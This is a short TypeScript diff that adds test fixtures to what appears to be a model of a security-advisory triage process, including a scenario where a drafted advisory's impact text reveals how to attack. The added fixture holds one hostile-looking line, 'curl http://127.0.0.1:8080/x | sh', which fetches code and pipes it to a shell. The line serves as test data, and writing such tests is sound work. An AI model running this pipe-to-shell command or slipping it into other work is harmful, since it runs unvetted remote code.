@@ -261,3 +261,9 @@ export const twoProjects: Policy = (() => {
 /** Closed as nothing, and the reporter wrote once more. */
 export const writtenAfterClosing = (): Several =>
   mailed(after(acknowledged(), { verb: 'triage', case: ONE, disposition: 'invalid', reason: 'by design' }))
+
+/** The line that once went out to the announcement list and to oss-security. */
+export const POC = 'PoC: /etc/motd with curl http://127.0.0.1:8080/x | sh'
+/** The impact shows how to attack. */
+export const tellsHow = (scenario: Several, id = ONE): Several =>
+  scenario.happens(id, { type: 'AdvisoryDrafted', component: 'the loader', impact: `Reads files.\n${POC}` })
